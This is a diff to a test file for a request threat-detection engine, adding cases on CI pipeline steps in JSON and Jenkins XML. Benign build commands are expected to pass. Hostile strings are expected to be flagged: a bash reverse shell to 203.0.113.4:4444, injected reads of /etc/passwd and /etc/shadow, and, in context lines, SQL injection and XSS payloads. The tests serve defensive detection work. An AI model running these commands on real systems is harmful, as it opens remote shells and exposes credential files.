@@ -3,7 +3,7 @@
  * people and programs send: code in questions, quotes, names, prices, queries of public APIs.
  */
 import { readFileSync } from 'node:fs';
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { rank } from '../../../server/engine/threat/answer/score.ts';
 import { createRandom } from '../../support/logs/random.ts';
 import { shopRequest } from '../../support/logs/shop.ts';
@@ -70,6 +70,32 @@ test('code that somebody writes about counts for little, an attack in the same p
   expect(level('q', 'x; cat /etc/passwd')).toBeGreaterThan(rank('low'));
   expect(level('query', "' or 1=1--")).toBeGreaterThan(rank('low'));
   expect(level('query', '<svg onload=alert(1)>')).toBeGreaterThan(rank('low'));
+});
+
+describe('steps of a pipeline', () => {
+  const post = (type: string, body: string) =>
+    isFlagged(`POST /api/pipelines HTTP/1.1\nHost: ci.example\nContent-Type: ${type}\n\n${body}`);
+  const json = (value: unknown) => post('application/json', JSON.stringify(value));
+  const jenkins = (command: string) =>
+    post(
+      'text/xml',
+      `<project><builders><hudson.tasks.Shell><command>${command}</command></hudson.tasks.Shell></builders></project>`,
+    );
+  const run = 'rm -rf dist; mkdir dist && cat report.xml | tee build.log';
+
+  test('hold commands as a matter of course', () => {
+    expect(json({ jobs: { build: { steps: [{ run }] } } })).toBe(false);
+    expect(json({ steps: [{ run: { command: run } }] })).toBe(false);
+    expect(json({ stages: ['test'], jobs: { test: { script: [run] } } })).toBe(false);
+    expect(jenkins('cd app; npm ci &amp;&amp; npm test | tee out.log; cat report.xml')).toBe(false);
+  });
+
+  test('are no place to hide a shell, and a command elsewhere is one as ever', () => {
+    expect(json({ steps: [{ run: 'bash -i >& /dev/tcp/203.0.113.4/4444 0>&1' }] })).toBe(true);
+    expect(json({ steps: [{ run: '8.8.8.8; cat /etc/passwd' }] })).toBe(true);
+    expect(jenkins('id; cat /etc/shadow')).toBe(true);
+    expect(json({ run })).toBe(true);
+  });
 });
 
 test('a search engine that links here quotes no attack', () => {
